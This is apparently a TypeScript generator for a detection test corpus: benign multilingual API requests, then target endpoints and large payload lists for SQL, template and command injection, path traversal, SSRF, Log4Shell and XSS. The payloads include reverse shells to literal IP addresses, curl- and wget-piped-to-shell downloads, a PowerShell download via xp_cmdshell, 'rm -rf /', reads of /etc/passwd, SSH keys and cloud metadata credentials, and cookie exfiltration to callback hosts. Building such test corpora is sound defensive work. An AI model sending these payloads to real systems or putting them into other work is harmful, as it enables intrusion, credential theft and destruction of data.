  'Postmortem note: someone ran `DELETE FROM sessions WHERE created_at < now()` without a LIMIT and locked the table for 40s. Not malicious, just Friday.',
  'Dashboard is wrong: p99 shows 12s but traces say ~800ms. I think the histogram buckets stop at 10 (le="10") so it caps.',
  'Re-ran the cell and it works now, the kernel had died (OOM) when loading the 4 GB parquet. Try `df = pd.read_parquet(path, columns=[...])`.',
  'Could you explain why you dropped NaNs before the join? Feels like we lose ~8% of rows — maybe fillna(0) or an outer join instead?',
  'Great notebook! One thing: the SQL cell uses `SELECT *` from events which costs $$$ on BigQuery, can we select only the 4 columns?',
  'Hola, el paquete llegó abierto y faltaba un artículo. ¿Cómo presento la reclamación? Gracias.',
  "Bonjour, l'agent ne répond plus depuis une semaine… le bail doit être signé avant le 1er. Merci de me rappeler au 06 12 34 56 78.",
  'Hallo, ich habe zwei Tickets für Samstag, kann ich eins auf Sonntag umbuchen? Bestellnummer #DE-44120.',
  'Ciao! Il conto mostra due addebiti uguali da 19,99 € (Netflix). È un errore?',
  'Dzień dobry, kierowca zostawił paczkę pod złym adresem (nr 14 zamiast 41).',
  'お世話になっております。署名済みの書類がダウンロードできません（エラー: 404）。ご確認ください。',
  'Oi, a fatura veio com valor errado — R$ 1.250,00 em vez de R$ 125,00. Podem corrigir?',
  'Goedemiddag, wanneer wordt de borg teruggestort? Het is nu al 6 weken…',
  "lol the tracking page literally says 'Your parcel is in: null' 😂",
  'To reproduce: open any listing > click \'Save search\' > refresh. You get {"error":"unauthorized"} even though I\'m logged in.',
];
const proseGens: Gen[] = [
  () =>
    json('POST', `/v2/shipments/shp_${str(14)}/comments`, {
      comment: {
        text: pick(
          proseTexts
            .slice(0, 2)
            .concat(proseTexts.slice(20, 22), proseTexts.slice(24, 25), proseTexts.slice(28)),
        ),
        visibility: 'customer',
      },
    }),
  () =>
    json(
      'POST',
      `/api/agents/agt_${str(10)}/reviews`,
      {
        review: {
          rating: int(1, 5),
          title: pick(['Honest & helpful', 'Terrible comms', 'Fine.', 'Sold in 2 weeks!']),
          text: pick(proseTexts.slice(2, 5).concat(proseTexts.slice(21, 22), proseTexts.slice(27, 28))),
        },
      },
      'browser',
    ),
  () =>
    json(
      'POST',
      '/v1/support/messages',
      {
        message: {
          order_id: `ord_${str(12)}`,
          body: pick(proseTexts.slice(5, 8).concat(proseTexts.slice(22, 23))),
        },
      },
      'mobile',
    ),
  () =>
    json(
      'POST',
      '/api/v1/support/tickets',
      {
        subject: pick(['Balance wrong', 'Split payment', 'Double charge']),
        description: pick(proseTexts.slice(8, 10).concat(proseTexts.slice(23, 24), proseTexts.slice(26, 27))),
        attachments: [],
      },
      'mobile',
    ),
  () =>
    json(
      'POST',
      `/restapi/v2.1/envelopes/${uuid()}/comments`,
      {
        comment: {
          text: pick(proseTexts.slice(10, 12).concat(proseTexts.slice(25, 26))),
          visibleTo: ['sender'],
        },
      },
      'browser',
    ),
  () =>
    json(
      'POST',
      `/api/v1/vehicles/${vin()}/notes`,
      { note: pick(proseTexts.slice(12, 14)), author: `drv_${str(8)}` },
      'mobile',
    ),
  () =>
    json(
      'POST',
      `/api/v1/incidents/INC-${int(1000, 1999)}/timeline`,
      { entry: { kind: 'note', text: pick(proseTexts.slice(14, 17)) } },
      'browser',
    ),
  () =>
    json(
      'POST',
      `/api/notebooks/${uuid()}/comments`,
      { comment: { body: pick(proseTexts.slice(17, 20)), cell_id: uuid() } },
      'browser',
    ),
  () =>
    json(
      'POST',
      '/api/feedback',
      {
        page: pick(['/listings/search', '/saved', '/listings/map']),
        text: proseTexts[29],
        browser: pick(BROWSER_UA),
      },
      'browser',
    ),
];

const i18nGens: Gen[] = [
  () =>
    json(
      'POST',
      '/v2/shipments',
      {
        reference: `JP-${int(1000, 9999)}`,
        recipient: {
          name: '山田 太郎',
          address: {
            line1: '東京都渋谷区神南1-2-3 ABCビル5階',
            city: '渋谷区',
            postcode: '150-0041',
            country: 'JP',
          },
          phone: '+81 3-1234-5678',
        },
        parcels: [{ weight_kg: 1.2, contents: '書籍（技術書）' }],
      },
      'sdk',
    ),
  () =>
    json(
      'POST',
      '/v2/shipments',
      {
        reference: `AE-${int(1000, 9999)}`,
        recipient: {
          name: 'محمد عبد الله',
          address: { line1: 'شارع الشيخ زايد، برج ٢٣، شقة ١٤٠٢', city: 'دبي', country: 'AE' },
        },
        instructions: 'الرجاء الاتصال قبل التوصيل',
      },
      'sdk',
    ),
  () =>
    json(
      'POST',
      '/api/listings',
      {
        listing: {
          title: 'Уютная 2-комнатная квартира у метро «Маяковская»',
          price: int(8, 25) * 1000000,
          currency: 'RUB',
          description: 'Ремонт 2023 г., мебель и техника остаются. Собственник.',
          address: { city: 'Москва', country: 'RU' },
        },
      },
      'browser',
    ),
  () =>
    json(
      'POST',
      '/api/listings',
      {
        listing: {
          title: 'Μονοκατοικία με θέα στη θάλασσα – Κρήτη',
          price: int(150, 600) * 1000,
          currency: 'EUR',
          agent_name: 'Γιώργος Παπαδόπουλος',
        },
      },
      'browser',
    ),
  () =>
    json(
      'POST',
      '/v1/orders',
      {
        event_id: `evt_${str(12)}`,
        event_name: '아이유 콘서트 2025 〈HEREH〉 서울',
        buyer: { name: '김민준', email: email() },
        tickets: [{ tier_id: 'R석', quantity: 2 }],
      },
      'mobile',
    ),
  () =>
    json(
      'POST',
      '/v1/orders',
      {
        event_id: `evt_${str(12)}`,
        event_name: 'Beyoncé — Cowboy Carter Tour (São Paulo)',
        buyer: { name: 'João Araújo', email: email() },
        tickets: [{ tier_id: 'pista-premium', quantity: 1 }],
        note: 'Meia-entrada: estudante ✅',
      },
      'mobile',
    ),
  () =>
    json(
      'POST',
      '/api/v1/payees',
      {
        name: pick([
          'Zoë Ødegård',
          'Dvořák & Synové s.r.o.',
          'Łukasz Żółkiewski',
          'Ñandú Gómez Peña',
          'Şükrü Çağlayan',
          'İlkay Gündoğan',
        ]),
        iban: `DE${int(10, 99)}${int(10000000, 99999999)}${int(1000000000, 9999999999)}`,
        reference: 'Miete März / Nebenkosten',
      },
      'mobile',
    ),
  () =>
    json(
      'POST',
      `/restapi/v2.1/accounts/${uuid()}/envelopes`,
      {
        emailSubject: pick([
          '請簽署：租賃合約 2025',
          'Bitte unterschreiben: Arbeitsvertrag – Schröder',
          'נא לחתום: הסכם סודיות',
          'कृपया हस्ताक्षर करें: किराया समझौता',
        ]),
        recipients: {
          signers: [
            {
              name: pick(['陳大文', 'Jürgen Schröder', 'דוד כהן', 'राहुल शर्मा']),
              email: email(),
              recipientId: '1',
            },
          ],
        },
        status: 'sent',
      },
      'sdk',
    ),
  () =>
    json(
      'POST',
      `/api/v1/vehicles/${vin()}/notes`,
      {
        note: pick([
          'Reifendruck hinten links zu niedrig – bitte prüfen ⚠️',
          'Pneu avant droit crevé, remplacé à Lyon-Vénissieux.',
          'ยางหน้าซ้ายรั่ว เปลี่ยนแล้วที่ปั๊ม ปตท.',
          'Ön sol lastik değiştirildi, İzmir.',
        ]),
      },
      'mobile',
    ),
  () =>
    json(
      'POST',
      '/api/v1/logs/ingest',
      {
        '@timestamp': isoDate(),
        level: 'warn',
        service: 'i18n-render',
        msg: 'missing translation key "checkout.cta" for locale zh-Hant-TW; fallback 結帳 → Checkout',
        labels: { locale: 'zh-Hant-TW', region: 'ap-east-1' },
      },
      'sdk',
    ),
  () =>
    json(
      'PATCH',
      `/api/notebooks/${uuid()}`,
      {
        metadata: {
          title: pick([
            'Analyse des ventes – T3 🇫🇷',
            '売上分析（第3四半期）',
            'Análisis de abandono de clientes',
            'Анализ оттока клиентов',
          ]),
          language_info: { name: 'python' },
        },
      },
      'browser',
      'application/merge-patch+json',
    ),
  () =>
    json(
      'POST',
      '/api/v1/profile',
      {
        display_name: pick([
          'Ana María ☀️',
          'Jörg 🚚',
          '🦊 Kitsune',
          'Siobhán Ní Bhriain',
          'Nguyễn Thị Minh Khai',
        ]),
        timezone: pick(['Europe/Dublin', 'Asia/Ho_Chi_Minh', 'America/Sao_Paulo']),
        locale: pick(['ga-IE', 'vi-VN', 'pt-BR']),
      },
      'mobile',
    ),
];

const CLEAN_KINDS: ReadonlyArray<readonly [string, Gen[], number]> = [
  ['rest-write', restWrite, 34],
  ['merge-patch', mergePatch, 26],
  ['json-patch', jsonPatch, 26],
  ['jsonapi', jsonapiGens, 26],
  ['graphql', graphqlGens, 32],
  ['delete', deleteGens, 24],
  ['search', searchGens, 36],
  ['form', formGens, 28],
  ['multipart', multipartGens, 26],
  ['ndjson', ndjsonGens, 24],
  ['webhook', webhookGens, 30],
  ['cms-html', cmsHtmlGens, 30],
  ['code', codeGens, 34],
  ['prose', proseGens, 42],
  ['i18n', i18nGens, 32],
];

function buildClean(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  const seen = new Set<string>();
  for (const [kind, gens, n] of CLEAN_KINDS) {
    for (let i = 0; i < n; i++) {
      let r = (gens[i % gens.length] as Gen)();
      for (let k = 1; k < gens.length * 2 && seen.has(r.method + r.path + r.body); k++)
        r = (gens[(i + k) % gens.length] as Gen)();
      seen.add(r.method + r.path + r.body);
      out.push({
        id: `h12c${out.length + 1}`,
        kind,
        method: r.method,
        path: r.path,
        headers: r.headers,
        body: r.body,
      });
    }
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------
// Attacks
// ---------------------------------------------------------------------------------------------------------

interface Target {
  /** method + path for JSON / form / multipart writes */
  readonly m: string;
  readonly p: string;
  /** vulnerable field */
  readonly f: string;
  /** otherwise normal body */
  readonly base: Record<string, unknown>;
  /** GET path (without query) and vulnerable query parameter */
  readonly q: string;
  readonly qp: string;
  /** GraphQL document using variable $v */
  readonly gq: string;
  /** header that the backend uses (logs, forwards, renders) */
  readonly h: string;
  /** free-text field for embedded payloads */
  readonly prose: string;
}
const T = (
  m: string,
  p: string,
  f: string,
  base: Record<string, unknown>,
  q: string,
  qp: string,
  gq: string,
  h: string,
  prose: string,
): Target => ({ m, p, f, base, q, qp, gq, h, prose });

const SQL_T: Target[] = [
  T(
    'POST',
    '/v2/shipments/search',
    'reference',
    { carrier: 'dhl', page: 1 },
    '/v1/track',
    'number',
    'query Track($v: String!) { parcel(trackingNumber: $v) { status eta } }',
    'x-forwarded-for',
    'note',
  ),
  T(
    'POST',
    '/api/listings/query',
    'sort',
    { city: 'London', min_beds: 2 },
    '/api/listings/search',
    'order_by',
    'query L($v: String) { listings(orderBy: $v, first: 20) { id title } }',
    'referer',
    'message',
  ),
  T(
    'POST',
    '/open-banking/v3.1/aisp/transactions/search',
    'merchant',
    { account_id: 'acc_1', limit: 50 },
    '/api/v1/transactions',
    'category',
    'query Tx($v: String!) { transactions(merchant: $v) { id amount } }',
    'x-fapi-customer-ip-address',
    'note',
  ),
  T(
    'POST',
    '/api/v1/envelopes/lookup',
    'envelope_id',
    { include: ['recipients'] },
    '/api/envelopes',
    'search_text',
    'query E($v: ID!) { envelope(id: $v) { status } }',
    'user-agent',
    'comment',
  ),
  T(
    'POST',
    '/api/logs/query',
    'service',
    { from: 'now-1h', to: 'now', level: 'error' },
    '/api/logs/search',
    'service',
    'query Logs($v: String!) { logs(service: $v, limit: 100) { message } }',
    'x-real-ip',
    'description',
  ),
  T(
    'POST',
    '/api/v1/vehicles/report',
    'vin',
    { metrics: ['idle_min', 'km'], period: '30d' },
    '/api/v1/vehicles',
    'driver_id',
    'query V($v: String!) { vehicle(vin: $v) { odometerKm } }',
    'x-device-id',
    'note',
  ),
];
const SQL_P = [
  "' OR '1'='1' -- ",
  "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
  '-1 UNION SELECT username,password_hash,email,NULL FROM users--',
  "'; DROP TABLE shipments;--",
  "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
  '1);SELECT pg_sleep(10)--',
  "' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--",
  "admin'--",
  "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))",
  "-1' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -",
  "1'; EXEC master..xp_cmdshell 'powershell -c iwr http://45.155.205.12/a.ps1|iex'--",
  "created_at,(SELECT CASE WHEN (SUBSTR(current_user,1,1)='p') THEN 1 ELSE 1/0 END)",
  "1' WAITFOR DELAY '0:0:7'--",
  '") OR 1=1 LIMIT 1 -- ',
  '1) AND 8371=8371 AND (6969=6969',
  "' RLIKE (SELECT (CASE WHEN (4346=4346) THEN 0x61646d696e ELSE 0x28 END))-- -",
  "1';COPY (SELECT '') TO PROGRAM 'curl http://c5x9.oast.fun/p|sh'--",
  "x' AND 1=(SELECT COUNT(*) FROM pg_shadow WHERE usename='postgres' AND passwd LIKE 'md5%')--",
  '1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71786a7a71,(SELECT (ELT(1=1,1))),0x716b707171))s), 8446744073709551610, 8446744073709551610)))',
  "' UNION SELECT NULL,NULL,LOAD_FILE('/etc/passwd')-- -",
];

const TPL_T: Target[] = [
  T(
    'POST',
    '/api/v1/templates/preview',
    'subject',
    { locale: 'en-GB', sample: { recipient: { first_name: 'Sam' } } },
    '/api/v1/templates/render',
    'greeting',
    'mutation P($v: String!) { previewTemplate(subject: $v) { html } }',
    'x-template-lang',
    'blurb',
  ),
  T(
    'POST',
    '/api/v2/alert-rules/test',
    'summary',
    { name: 'HighErrorRate', for: '5m' },
    '/api/v2/alerts/preview',
    'message',
    'mutation T($v: String!) { testNotification(message: $v) { ok } }',
    'x-grafana-org-name',
    'description',
  ),
  T(
    'POST',
    '/v1/events/evt_x71KqZ/email-preview',
    'headline',
    { audience: 'ticket_holders' },
    '/v1/tickets/pdf',
    'name_on_ticket',
    'mutation B($v: String!) { sendBroadcast(body: $v) { id } }',
    'user-agent',
    'message',
  ),
  T(
    'POST',
    '/v2/labels/custom',
    'footer_text',
    { shipment_id: 'shp_9Ks02LmQpx7aZt', format: 'zpl' },
    '/v2/labels/preview',
    'sender_name',
    'mutation L($v: String!) { customizeLabel(footer: $v) { url } }',
    'referer',
    'instructions',
  ),
  T(
    'POST',
    '/api/notebooks/export',
    'title',
    { format: 'html', notebook_id: 'nb_4a1' },
    '/api/notebooks/report',
    'heading',
    'mutation X($v: String!) { exportNotebook(title: $v) { url } }',
    'x-forwarded-host',
    'comment',
  ),
];
const TPL_P = [
  '{{7*7}}',
  '${7*7}',
  "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  "<%= system('cat /etc/passwd') %>",
  "${T(java.lang.Runtime).getRuntime().exec('id')}",
  "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /proc/self/environ').read()}}",
  "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
  '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))#set($ex=$rt.getRuntime().exec('whoami'))",
  "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
  "{% import os %}{{ os.popen('whoami').read() }}",
  "*{T(java.lang.Runtime).getRuntime().exec('curl http://oast.pro/x')}",
  "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
  "{{lipsum.__globals__['os'].popen('ls -la /').read()}}",
  '${{<%[%\'"}}%\\.',
  '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
  '{{ "/etc/passwd" | file_get_contents }}',
  '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))',
  '{{ .Env.AWS_SECRET_ACCESS_KEY }}{{ call .Exec "id" }}',
  '[[${T(java.lang.Runtime).getRuntime().exec("id")}]]',
];

const CMD_T: Target[] = [
  T(
    'POST',
    '/api/v1/documents/convert',
    'filename',
    { target: 'pdf', dpi: 150 },
    '/api/v1/documents/thumbnail',
    'file',
    'mutation C($v: String!) { convertDocument(filename: $v) { url } }',
    'x-file-name',
    'note',
  ),
  T(
    'POST',
    '/api/v1/diagnostics/ping',
    'host',
    { count: 4 },
    '/api/v1/diagnostics/traceroute',
    'target',
    'mutation D($v: String!) { runDiagnostic(host: $v) { output } }',
    'x-forwarded-host',
    'details',
  ),
  T(
    'POST',
    '/v2/printers/labels',
    'printer',
    { copies: 1, format: 'zpl' },
    '/v2/printers/status',
    'queue',
    'mutation Pr($v: String!) { printLabel(printer: $v) { jobId } }',
    'x-printer-id',
    'instructions',
  ),
  T(
    'POST',
    '/api/notebooks/nbconvert',
    'output_name',
    { to: 'pdf', template: 'lab' },
    '/api/notebooks/download',
    'name',
    'mutation N($v: String!) { nbconvert(outputName: $v) { url } }',
    'user-agent',
    'comment',
  ),
  T(
    'POST',
    '/api/v1/firmware/update',
    'version',
    { device_id: 'tcu-4f2a9b01', channel: 'stable' },
    '/api/v1/firmware/check',
    'version',
    'mutation F($v: String!) { updateFirmware(version: $v) { ok } }',
    'x-device-id',
    'note',
  ),
  T(
    'POST',
    '/api/v1/exports/transactions',
    'email_to',
    { format: 'csv', range: '2024-Q4' },
    '/api/v1/exports/download',
    'file',
    'mutation Ex($v: String!) { exportTransactions(emailTo: $v) { id } }',
    'referer',
    'message',
  ),
];
const CMD_P = [
  '; cat /etc/passwd',
  'report.pdf | id',
  '$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)',
  '`wget -qO- http://45.95.147.236/x.sh | sh`',
  '8.8.8.8 && ping -c 10 127.0.0.1',
  '127.0.0.1; nc -e /bin/sh 185.220.101.4 4444',
  'x$(bash -c "bash -i >& /dev/tcp/91.92.240.12/9001 0>&1")',
  'a.csv || curl http://k2j4.oast.me/$(whoami)',
  ';${IFS}cat${IFS}/etc/shadow',
  'invoice.pdf\nid',
  'doc.pdf; rm -rf / --no-preserve-root',
  'a.csv$(sleep 10)',
  'x; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.10.14.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
  '| powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  '&& curl -fsSL http://193.142.146.35/kinsing | bash',
  "'; /bin/busybox wget http://176.65.148.2/mips -O /tmp/m; chmod +x /tmp/m; /tmp/m; '",
  '1.2.3 & type C:\\Windows\\win.ini',
  '$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh)',
];

const PT_T: Target[] = [
  T(
    'POST',
    '/api/v1/documents/fetch',
    'path',
    { envelope_id: 'env_2b9f' },
    '/api/v1/documents/download',
    'file',
    'query Doc($v: String!) { document(path: $v) { contentBase64 } }',
    'x-original-url',
    'note',
  ),
  T(
    'POST',
    '/v2/labels/render',
    'template',
    { shipment_id: 'shp_Zq81kLmP0xY2Wd' },
    '/v2/labels',
    'template',
    'query Lbl($v: String!) { label(template: $v) { zpl } }',
    'x-template',
    'instructions',
  ),
  T(
    'POST',
    '/api/contents/open',
    'path',
    { type: 'notebook' },
    '/api/contents/files',
    'path',
    'query C($v: String!) { contents(path: $v) { content } }',
    'x-rewrite-url',
    'comment',
  ),
  T(
    'POST',
    '/api/listings/photos/attach',
    'image_path',
    { listing_id: 481220 },
    '/api/listings/photo',
    'src',
    'query Ph($v: String!) { photo(src: $v) { url } }',
    'referer',
    'description',
  ),
  T(
    'POST',
    '/api/v1/logs/tail',
    'file',
    { lines: 200 },
    '/api/v1/logs/download',
    'file',
    'query Tail($v: String!) { logFile(name: $v) { lines } }',
    'x-log-file',
    'note',
  ),
  T(
    'POST',
    '/v1/tickets/assets',
    'theme',
    { event_id: 'evt_p02LxQ' },
    '/v1/tickets/theme',
    'css',
    'query Th($v: String!) { ticketTheme(name: $v) { css } }',
    'x-theme',
    'message',
  ),
];
const PT_P = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2f..%2fetc%2fpasswd',
  '....//....//....//etc/passwd',
  '..\\..\\..\\..\\windows\\win.ini',
  '/proc/self/environ',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/shadow',
  '..%c0%af..%c0%af..%c0%afetc/passwd',
  '../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
  '/var/www/app/../../../root/.ssh/id_rsa',
  '../../../app/.env',
  '..;/..;/WEB-INF/web.xml',
  '../../../../home/jovyan/.jupyter/jupyter_server_config.py',
  '..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts',
  '/..%252f..%252f..%252fetc/passwd',
  '../../../../../../proc/1/cmdline',
  '../../../.aws/credentials',
  '..%u2216..%u2216..%u2216etc/passwd',
  'templates/../../../../usr/local/etc/php/php.ini',
];

const SSRF_T: Target[] = [
  T(
    'POST',
    '/api/v1/webhooks',
    'url',
    { events: ['shipment.delivered'], secret: 'whsec_1' },
    '/api/v1/webhooks/test',
    'url',
    'mutation W($v: String!) { createWebhook(url: $v) { id } }',
    'x-callback-url',
    'description',
  ),
  T(
    'POST',
    '/api/datasources',
    'url',
    { type: 'prometheus', access: 'proxy', name: 'prom-eu' },
    '/api/datasources/proxy/check',
    'url',
    'mutation Ds($v: String!) { addDatasource(url: $v) { id } }',
    'x-forwarded-host',
    'description',
  ),
  T(
    'POST',
    '/api/listings/import',
    'feed_url',
    { format: 'rightmove-blm' },
    '/api/listings/preview-image',
    'src',
    'mutation I($v: String!) { importFeed(url: $v) { count } }',
    'referer',
    'notes',
  ),
  T(
    'POST',
    '/api/notebooks/import',
    'source_url',
    { target_dir: 'work' },
    '/api/notebooks/fetch',
    'url',
    'mutation Nb($v: String!) { importNotebook(url: $v) { path } }',
    'x-forwarded-for',
    'comment',
  ),
  T(
    'POST',
    '/api/v1/documents/from-url',
    'document_url',
    { envelope_id: 'env_91ac' },
    '/api/v1/documents/proxy',
    'u',
    'mutation Du($v: String!) { addDocumentFromUrl(url: $v) { id } }',
    'x-original-url',
    'message',
  ),
  T(
    'POST',
    '/api/v1/profile/avatar',
    'avatar_url',
    { crop: 'square' },
    '/api/v1/link-preview',
    'url',
    'mutation A($v: String!) { setAvatar(url: $v) { ok } }',
    'x-wap-profile',
    'bio',
  ),
];
const SSRF_P = [
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
  'http://2852039166/latest/user-data',
  'http://0x7f000001:6379/',
  'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A%2F1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A',
  'http://localhost:9200/_cat/indices?v',
  'file:///etc/passwd',
  'http://127.0.0.1:2375/containers/json',
  'dict://127.0.0.1:11211/stats',
  'http://169.254.169.254.nip.io/latest/meta-data/',
  'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
  'http://[fd00:ec2::254]/latest/api/token',
  'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
  'http://127.1:8500/v1/agent/self',
  'http://0.0.0.0:8080/actuator/env',
  'http://169.254.170.2/v2/credentials/',
  'http://legit-cdn.example.com@127.0.0.1:8001/api/v1/pods',
  'http://0177.0.0.1/admin',
  'jar:http://127.0.0.1:9000!/',
];

const L4J_T: Target[] = [
  T(
    'POST',
    '/api/v1/logs/ingest',
    'message',
    { level: 'info', service: 'edge' },
    '/api/logs/search',
    'query',
    'query Q($v: String!) { logs(query: $v) { message } }',
    'user-agent',
    'message',
  ),
  T(
    'POST',
    '/v2/shipments',
    'reference',
    { service: 'express' },
    '/v1/track',
    'number',
    'query T($v: String!) { parcel(trackingNumber: $v) { status } }',
    'x-api-version',
    'instructions',
  ),
  T(
    'POST',
    '/open-banking/v3.1/pisp/domestic-payments',
    'Reference',
    { Amount: '10.00', Currency: 'GBP' },
    '/open-banking/v3.1/aisp/accounts',
    'accountId',
    'query A($v: String!) { account(id: $v) { balance } }',
    'x-fapi-interaction-id',
    'note',
  ),
  T(
    'POST',
    '/api/v1/auth/login',
    'username',
    { password: 'hunter2' },
    '/api/v1/auth/sso',
    'relay',
    'mutation L($v: String!) { login(username: $v, password: "x") { token } }',
    'x-forwarded-for',
    'comment',
  ),
  T(
    'POST',
    '/v1/orders',
    'promo_code',
    { event_id: 'evt_Q0p1', tickets: [{ tier_id: 'ga', quantity: 2 }] },
    '/v1/events/search',
    'q',
    'query E($v: String) { events(q: $v) { id } }',
    'referer',
    'message',
  ),
  T(
    'POST',
    '/api/v1/telemetry',
    'device_id',
    { vin: '1FTBW3XM5HKA12345', speed_kph: 48 },
    '/api/v1/vehicles',
    'vin',
    'query V($v: String!) { vehicle(vin: $v) { id } }',
    'x-device-id',
    'note',
  ),
];
const L4J_P = [
  '${jndi:ldap://c6x7q1.oast.fun/a}',
  '${${lower:j}ndi:${lower:l}dap://45.83.193.150:1389/Exploit}',
  '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://185.220.101.9:1099/obj}',
  '${jndi:dns://d8k2.interact.sh/x}',
  '${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//198.51.100.77:1389/a}',
  '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x9q.burpcollaborator.net/a}',
  '${jndi:${lower:l}${lower:d}a${lower:p}://log4j.c0ffee.oastify.com/z}',
  '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://mutation.oast.site/q}',
  '${jndi:ldaps://attacker.example.net:636/cn=x}',
  '${${upper:j}ndi:iiop://203.0.113.9:900/a}',
  '${jndi:ldap://127.0.0.1#evil.oast.live:1389/a}',
  "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://cb.oast.me/a}",
  '${jndi:ldap://${hostName}.${sys:user.name}.l4j.dnslog.cn/x}',
  '${${base64:JHtqbmRpOmxkYXA6Ly94LmNvbS9hfQ==}}',
  '${jndi:rmi://51.195.46.27:1099/Basic/Command/Base64/Y3VybCAtcyAxOTIuMC4yLjEvc2h8c2g=}',
  '${${::-$}{jndi:ldap://nested.oast.pro/a}}',
  '${jndi:ldap://${java:version}.ver.oast.fun/}',
  '${${lower:${lower:jndi}}:${lower:ldap}://x.oast.online/p}',
];

const XSS_T: Target[] = [
  T(
    'POST',
    '/api/listings',
    'title',
    { price: 325000, bedrooms: 2, currency: 'GBP' },
    '/api/listings/search',
    'q',
    'mutation C($v: String!) { createListing(title: $v) { id } }',
    'referer',
    'description',
  ),
  T(
    'POST',
    '/api/agents/agt_Pq82Lm01Za/reviews',
    'title',
    { rating: 5 },
    '/api/agents/reviews',
    'sort',
    'mutation R($v: String!) { addReview(title: $v, rating: 5) { id } }',
    'user-agent',
    'text',
  ),
  T(
    'POST',
    '/v1/orders',
    'name_on_ticket',
    { event_id: 'evt_Lx0p2', tickets: [{ tier_id: 'ga', quantity: 1 }] },
    '/v1/events/search',
    'q',
    'mutation O($v: String!) { createOrder(nameOnTicket: $v) { id } }',
    'x-forwarded-host',
    'message',
  ),
  T(
    'POST',
    '/api/v1/payees',
    'nickname',
    { sort_code: '040004', account_number: '12345678' },
    '/api/v1/transactions',
    'search',
    'mutation P($v: String!) { addPayee(nickname: $v) { id } }',
    'referer',
    'note',
  ),
  T(
    'POST',
    '/api/dashboards/db',
    'title',
    { tags: ['prod'], overwrite: false },
    '/api/search',
    'query',
    'mutation D($v: String!) { saveDashboard(title: $v) { uid } }',
    'user-agent',
    'message',
  ),
  T(
    'POST',
    '/v2/shipments/shp_Q81zLm0pX2/comments',
    'author_name',
    { visibility: 'customer' },
    '/v1/track',
    'lang',
    'mutation S($v: String!) { addComment(author: $v) { id } }',
    'x-requested-with',
    'text',
  ),
];
const XSS_P = [
  '<script>alert(document.domain)</script>',
  '<img src=x onerror=alert(1)>',
  "<svg/onload=fetch('//xss.report/c/'+document.cookie)>",
  '"><iframe src=javascript:alert(1)>',
  'javascript:alert(document.cookie)//',
  '<details open ontoggle=alert(1)>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '<input autofocus onfocus=alert(document.domain)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=1 onerror="eval(atob(\'ZmV0Y2goJy8vZXZpbC5leGFtcGxlL2s/Yz0nK2RvY3VtZW50LmNvb2tpZSk=\'))">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<x contenteditable onblur=alert(1)>lose focus',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '"><script src=https://js.rip/q7x></script>',
  '<body onpageshow=alert(1)>',
  '</textarea><script>new Image().src="//2ab.oast.fun/?"+localStorage.token</script>',
];

/** Escape every non-alphanumeric character of a string as a JSON \uXXXX sequence. */
const uEscape = (s: string): string =>
  '"' +
  Array.from(s)
    .map((c) =>
      /[A-Za-z0-9 ]/.test(c)
        ? c
        : c
            .split('')
